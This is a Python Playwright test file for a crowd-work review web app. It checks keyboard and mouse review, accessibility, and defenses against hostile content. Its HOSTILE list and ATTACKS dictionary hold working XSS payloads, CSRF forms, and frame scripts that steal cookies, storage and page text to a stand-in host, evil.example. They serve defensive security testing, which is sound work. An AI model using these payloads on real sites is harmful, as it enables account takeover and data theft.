"""review --browser in Chromium: by keyboard alone, by mouse, without problems for axe-core, and with hostile work."""

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, expect

from simpleturk.batch.review.decisions_file import read_own
from simpleturk.marketplace.domain.marketplace import Marketplace
from tests.browser.conftest import LAPTOP, PHONE
from tests.browser.test_accessible_worker_site import Visitor
from tests.conftest import Files, Run, do
from tests.review_app.served_review import ServedReview, served_review

IDS = Path("hit_ids.txt")

PAGE = """<!doctype html><title>T</title><h1>Describe {{ input.word }}</h1>
<form method="post" action="https://www.mturk.com/mturk/externalSubmit"><input type="hidden" name="assignmentId">
<label>Kind <select name="kind"><option>cat<option>dog</select></label>
<label>Text <textarea name="text"></textarea></label><button>Submit</button></form>
"""


@pytest.fixture
def batch(batch_files: Files, run: Run, local: Marketplace) -> list[str]:
    """Six assignments of two workers, in the order of the ids."""
    batch_files([{"word": word} for word in ("cat", "dog", "emu")], PAGE)
    assert run("launch").exit_code == 0
    hits = IDS.read_text().split()
    return [
        do(local, hit, worker, ("kind", "dog"), ("text", f"{worker} sees something"))
        for hit in hits
        for worker in ("ann", "bob")
    ]


@pytest.fixture
def served(batch: list[str], tmp_path: Path) -> Iterator[ServedReview]:
    (tmp_path / "files").mkdir()
    with served_review(tmp_path / "files") as served:
        yield served


def verdicts() -> dict[str, str | None]:
    return {name: decision.decision for name, decision in read_own(IDS).decisions.items()}


def at(page: Page, assignment_id: str) -> None:
    """Wait until the page shows an assignment."""
    expect(page.locator(f'.item-head[data-id="{assignment_id}"]')).to_be_attached()


def test_a_batch_is_reviewed_by_keyboard_alone(page: Page, served: ServedReview, batch: list[str]) -> None:
    page.goto(served.address)
    at(page, batch[0])
    assert "key" not in page.url
    press = page.keyboard.press
    press("a")
    at(page, batch[1])
    expect(page.locator("#said")).to_have_text("Approved.")
    press("r")
    expect(page.get_by_label("Reason. The worker reads it.").first).to_be_focused()
    page.keyboard.type("a spam answer, not the picture")
    press("Control+Enter")
    at(page, batch[2])
    press("p")
    at(page, batch[3])
    press("n")
    page.keyboard.type("odd")
    press("Control+Enter")
    expect(page.locator("section.decided")).to_contain_text("odd")
    press("t")
    page.keyboard.type("blurry, dark")
    press("Enter")
    expect(page.locator("section.decided .chip")).to_have_count(2)
    press("b")
    page.keyboard.type("0.50")
    press("Tab")
    page.keyboard.type("Kind")
    press("Control+Enter")
    expect(page.locator("section.decided")).to_contain_text("$0.50: Kind")
    press("e")
    page.get_by_label("text", exact=True).fill("corrected text")
    press("Control+Enter")
    expect(page.locator("section.decided")).to_contain_text("corrected text")
    assert verdicts() == {batch[0]: "approve", batch[1]: "reject", batch[2]: "pass", batch[3]: None}
    press("u")
    expect(page.locator("section.decided")).not_to_contain_text("corrected text")
    press("s")
    at(page, batch[4])
    press("ArrowLeft")
    at(page, batch[3])
    press("ArrowRight")
    at(page, batch[4])
    press("Shift+P")
    expect(page.get_by_role("heading", name="Pass 1 assignment")).to_have_count(0)
    press("ArrowLeft")
    at(page, batch[3])
    press("Shift+A")
    expect(page.get_by_role("heading", name="Approve 2 assignments of bob?")).to_be_visible()
    press("Enter")
    at(page, batch[4])
    assert verdicts() == {
        batch[0]: "approve", batch[1]: "reject", batch[2]: "pass", batch[3]: "approve", batch[5]: "approve",
    }  # fmt: skip
    press("u")
    at(page, batch[3])
    assert verdicts()[batch[3]] is None and batch[5] not in verdicts()
    press("?")
    expect(page.get_by_role("heading", name="Keys")).to_be_visible()
    press("a")
    assert verdicts()[batch[3]] is None
    press("Escape")
    press("/")
    expect(page.get_by_role("searchbox")).to_be_focused()
    page.keyboard.type("ann dog")
    press("Enter")
    page.wait_for_url("**/assignments?q=ann+dog")


def test_keys_work_while_the_hit_has_the_focus_and_pages_cannot_press_them(
    page: Page, served: ServedReview, batch: list[str]
) -> None:
    page.goto(served.address)
    at(page, batch[0])
    frame = page.frame_locator("#stage iframe:not(.waiting)")
    expect(frame.get_by_label("Text")).to_have_value("ann sees something")
    frame.get_by_role("heading").click()
    page.keyboard.press("a")
    at(page, batch[1])
    expect(page.frame_locator("#stage iframe:not(.waiting)").get_by_label("Text")).to_have_value("bob sees something")


def test_a_batch_is_reviewed_and_applied_by_mouse(page: Page, served: ServedReview, batch: list[str]) -> None:
    page.goto(served.address)
    at(page, batch[0])
    page.get_by_role("button", name="Approve a", exact=True).click()
    at(page, batch[1])
    page.get_by_role("button", name="Reject r", exact=True).click()
    page.get_by_label("Reason. The worker reads it.").first.fill("Not the picture")
    page.get_by_role("dialog").get_by_role("button", name="Reject").click()
    at(page, batch[2])
    page.get_by_role("button", name="Reject r", exact=True).click()
    page.get_by_role("dialog").get_by_role("button", name="Not the picture").click()
    page.get_by_role("dialog").get_by_role("button", name="Reject").click()
    at(page, batch[3])
    page.get_by_role("button", name="Fields").click()
    expect(page.get_by_role("cell", name="bob sees something")).to_be_visible()
    page.get_by_role("link", name="Assignments").click()
    page.get_by_label("Mark all on this page").check()
    expect(page.locator("#picked")).to_have_text("6 found, 6 marked")
    for name in batch[:3]:
        page.get_by_label(f"Mark {name}").uncheck()
    page.locator("#act").select_option("pass")
    page.get_by_role("button", name="Decide about the marked").click()
    page.get_by_role("button", name="Pass: 3").click()
    expect(page.get_by_role("status")).to_have_text("Passed: 3 assignments.")
    page.get_by_role("link", name="Plan").click()
    page.get_by_role("button", name="Apply the plan").click()
    expect(page.get_by_role("heading", name="Plan on the local marketplace")).to_be_visible()
    assert not Path("hit_ids.ledger.jsonl").exists()
    page.get_by_label("Spend $0.40, approve 4 assignments and reject 2 assignments").check()
    page.get_by_role("button", name="Apply the plan").click()
    expect(page.get_by_role("heading", name="Applied")).to_be_visible()
    expect(page.get_by_role("listitem").filter(has_text="Approved 4 assignments")).to_be_visible()
    assert [served.review.items.by_id[name].status for name in batch[:2]] == ["Approved", "Rejected"]


def test_a_server_that_is_gone_is_said_and_nothing_is_lost(page: Page, served: ServedReview, batch: list[str]) -> None:
    page.goto(served.address)
    at(page, batch[0])
    page.route("**/decide", lambda route: route.abort())
    page.keyboard.press("r")
    page.keyboard.type("a long reason")
    page.keyboard.press("Control+Enter")
    expect(page.get_by_role("alert")).to_contain_text("does not answer")
    expect(page.get_by_label("Reason. The worker reads it.").first).to_have_value("a long reason")
    page.unroute("**/decide")
    page.keyboard.press("Control+Enter")
    at(page, batch[1])
    assert verdicts() == {batch[0]: "reject"}


@pytest.mark.parametrize("screen", ["laptop", "phone", "dark"])
def test_pages_have_no_problem_for_axe_and_fit_the_screen(
    screen: str, chromium: Browser, served: ServedReview, batch: list[str]
) -> None:
    screens: dict[str, Any] = {"laptop": LAPTOP, "phone": PHONE, "dark": LAPTOP | {"color_scheme": "dark"}}
    context = chromium.new_context(**screens[screen])
    page = context.new_page()
    page.goto(served.address)
    at(page, batch[0])
    served.sign_in().decide(batch[0], "reject", feedback="Not the picture")
    served.decide(batch[1], "bonus", bonus="0.50", bonus_reason="Kind")
    served.decide(batch[1], "tags", tags="a, b")
    visitor = Visitor(screen, page, served.address.partition("/?")[0])
    paths = {
        "review": f"/review/{batch[1]}", "review-rejected": f"/review/{batch[0]}", "review-assignments": "/assignments",
        "review-none": "/assignments?q=nothing", "review-workers": "/workers", "review-worker": "/workers/ann",
        "review-hits": "/hits", "review-statistics": "/statistics", "review-plan": "/plan", "review-ledger": "/ledger",
        "review-error": "/review/3NONE",
    }  # fmt: skip
    for name, path in paths.items():
        visitor.go(path, name)
    page.goto(f"{visitor.site}/review/{batch[1]}")
    for dialog in ("reject", "bonus", "note", "tags", "edit", "help", "rest-approve", "rest-reject"):
        page.locator(f'[data-dialog="{dialog}"]').first.click()
        expect(page.locator(f"#dialog-{dialog}")).to_be_visible()
        visitor.look(f"review-dialog-{dialog}")
        page.keyboard.press("Escape")
    assert visitor.wrong == []
    context.close()


MARK = "window.top.hacked = 1; window.hacked = 1"

#: Texts that a careless page would run, or break on.
HOSTILE = [
    f"<script>{MARK}</script>",
    f"<img src=x onerror='{MARK}'>",
    f"\"><svg onload='{MARK}'>",
    f"' onfocus='{MARK}' autofocus='",
    f"</textarea><script>{MARK}</script>",
    f"</title></style></dialog><script>{MARK}</script>",
    f"javascript:{MARK}",
    f"{{{{ 7 * 7 }}}}{{% for x in y %}}<iframe srcdoc='<script>{MARK}</script>'></iframe>",
    "<meta http-equiv=refresh content='0; url=https://evil.example/'>",
    "<base href=https://evil.example/><link rel=stylesheet href=https://evil.example/x.css>",
    "<form action=https://evil.example><button>Approve</button></form>",
    "\u202e\u2066 reversed \x07 \u2028 <!-- ]]> -->",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_texts_are_text_on_every_page(
    text: str, page: Page, batch_files: Files, run: Run, local: Marketplace, tmp_path: Path
) -> None:
    batch_files([{"word": text}], PAGE.replace("{{ input.word }}", ""))
    assert run("launch").exit_code == 0
    [hit] = IDS.read_text().split()
    upload = json.dumps({"name": text, "size": 3, "type": text, "sha256": "ab" * 32})
    one = do(local, hit, "ann", ("text", text), (text[:200], text), ("file", upload))
    do(local, hit, "bob", ("text", "other"))
    (tmp_path / "files").mkdir()
    strangers: list[str] = []
    page.on("request", lambda request: strangers.append(request.url) if "127.0.0.1" not in request.url else None)
    page.on("dialog", lambda dialog: strangers.append(dialog.message))
    with served_review(tmp_path / "files") as served:
        page.goto(served.address)
        at(page, one)
        served.sign_in()
        clean = text.replace("\x07", "")
        assert served.decide(one, "reject", feedback=clean).status == 200
        assert served.decide(one, "note", note=clean).status == 200
        assert served.decide(one, "tags", tags=clean[:190]).status == 200
        assert served.decide(one, "bonus", bonus="1", bonus_reason=clean).status == 200
        site = served.address.partition("/?")[0]
        for path in (f"/review/{one}", "/assignments", "/workers", "/hits", "/statistics", "/plan", "/ledger"):
            page.goto(site + path)
            page.wait_for_load_state()
            assert page.evaluate("window.hacked") is None, path
            assert page.url == site + path
        page.goto(f"{site}/review/{one}")
        at(page, one)
        page.keyboard.press("2")
        expect(page.locator(".fields-view tbody tr").first).to_be_visible()
        page.keyboard.press("e")
        expect(page.locator("#dialog-edit")).to_be_visible()
        assert page.evaluate("window.hacked") is None
    assert strangers == []


#: Scripts of a HIT's page that try to decide, to read, or to lead the reviewer away. SITE and ID are filled in.
ATTACKS = {
    "form to decide": """
        const f = document.createElement("form"); f.method = "post"; f.action = "SITE/decide";
        f.innerHTML = "<input name=act value=approve><input name=assignment_id value=ID>";
        document.body.append(f); f.submit();""",
    "fetch to decide": """
        const body = new URLSearchParams({act: "approve", assignment_id: "ID"});
        fetch("SITE/decide", {method: "POST", mode: "no-cors", credentials: "include", body}).catch(() => {});""",
    "read the page": """
        fetch("SITE/review/ID", {credentials: "include"}).then((r) => r.text())
          .then((stolen) => parent.postMessage({stolen}, "*")).catch(() => {});""",
    "reach the parent": "parent.document.querySelector('[data-key=a]').click();",
    "lead the window away": "top.location = 'https://evil.example/';",
    "lead the frame away": "location = 'https://evil.example/?' + encodeURIComponent(document.body.innerText);",
    "show the plan in the frame": "location = 'SITE/plan';",
    "open a window": """
        window.open("https://evil.example/"); const a = document.createElement("a");
        a.href = "https://evil.example/"; a.target = "_blank"; document.body.append(a); a.click();""",
    "pretend to be ready": """
        for (const simpleturk of ["ready", "review", "key", "height"]) parent.postMessage(
          {simpleturk, ready: true, key: "a", height: 1e9, unplaced: ["<img src=x onerror=alert(1)>"]}, "*");""",
    "press a key": """
        for (const target of [document, window, document.body]) for (const key of ["a", "A", "p"])
          target.dispatchEvent(new KeyboardEvent("keydown", {key, bubbles: true}));""",
    "send a channel": """
        const c = new MessageChannel(); parent.postMessage({simpleturk: "review"}, "*", [c.port2]);
        c.port1.postMessage({key: "a", link: "https://evil.example/", ready: true});""",
    "ask with dialogs": "alert(1); confirm(2); prompt(3);",
    "read cookies and storage": """
        let stolen = ""; try { stolen += document.cookie; } catch {}
        try { stolen += localStorage.key(0) || ""; } catch {}
        if (stolen) parent.postMessage({stolen}, "*");""",
    "load the pages as scripts": """
        for (const path of ["/export?format=jsonl", "/answers/ID.json", "/assignments"]) {
          const s = document.createElement("script"); s.src = "SITE" + path; document.body.append(s); }""",
    "frame the pages": """
        for (const path of ["/", "/plan", "/review/ID"]) {
          const f = document.createElement("iframe"); f.src = "SITE" + path; document.body.append(f);
          f.onload = () => {
            try { parent.postMessage({stolen: f.contentDocument.body.innerText}, "*"); } catch {} }; }""",
    "fill the history": "for (let i = 0; i < 30; i++) history.pushState({}, '', '#' + i);",
    "cover the page": "document.body.innerHTML = '<div id=x>x</div>'; x.style = 'position: fixed; inset: -9999px';",
    "focus itself": "setInterval(() => window.focus(), 10); document.body.tabIndex = 0; document.body.focus();",
}

START = "<!doctype html><title>T</title><body><p>hostile</p>"

#: Remembers on the page of the review what a frame has read of it.
LISTENER = (
    "if (top === window) addEventListener('message', (e) => { if (e.data?.stolen) window.stolen = e.data.stolen; })"
)


@pytest.mark.parametrize("name", ATTACKS)
def test_a_hostile_page_decides_reads_and_leads_nowhere(
    name: str, page: Page, batch_files: Files, run: Run, local: Marketplace, tmp_path: Path
) -> None:
    (tmp_path / "files").mkdir()
    batch_files(
        [{"word": "x"}], "<!doctype html><title>T</title><body><p>hostile</p><script src='/static/attack.js'></script>"
    )
    assert run("launch").exit_code == 0
    [hit] = IDS.read_text().split()
    one = do(local, hit, "ann", ("text", "x"))
    with served_review(tmp_path / "files") as served:
        site = served.address.partition("/?")[0]
        script = ATTACKS[name].replace("SITE", site).replace("ID", one)
        twice = (
            f"const go = () => {{ try {{ {script} }} catch {{}} }}; go(); setTimeout(go, 300); console.log('attacked');"
        )
        page.route("**/static/attack.js", lambda route: route.fulfill(body=twice, content_type="text/javascript"))
        strangers: list[str] = []
        page.on("dialog", lambda dialog: strangers.append(dialog.message))
        page.on("requestfinished", lambda sent: strangers.append(sent.url) if "evil" in sent.url else None)
        page.add_init_script(LISTENER)
        with page.expect_console_message(lambda message: message.text == "attacked"):
            page.goto(served.address)
        at(page, one)
        # Long enough for the second attempt, of which nothing is to be seen.
        page.evaluate("new Promise((resolve) => setTimeout(resolve, 600))")
        assert page.evaluate("window.stolen") is None
        assert page.url == f"{site}/review/{one}"
        assert len(page.context.pages) == 2, "besides the page there is the blank one that each context keeps"
        assert served.review.log.decisions == {}
        page.get_by_role("button", name="Pass p", exact=True).click()
        expect(page.get_by_role("heading", name="The assignment is decided")).to_be_visible()
        assert verdicts() == {one: "pass"}
        assert strangers == []


def test_another_site_can_neither_decide_nor_show_the_review(
    page: Page, served: ServedReview, batch: list[str]
) -> None:
    page.goto(served.address)
    at(page, batch[0])
    site = served.address.partition("/?")[0]
    attack = f"""<!doctype html><title>Evil</title><iframe src="{site}/plan"></iframe>
    <form method="post" action="{site}/decide"><input name="act" value="approve">
    <input name="assignment_id" value="{batch[0]}"><input name="csrf" value=""></form>
    <script>document.forms[0].submit()</script>"""
    page.route("http://evil.example/", lambda route: route.fulfill(body=attack, content_type="text/html"))
    with page.expect_response("**/decide") as response:
        page.goto("http://evil.example/")
    assert response.value.status == 403
    assert served.review.log.decisions == {}
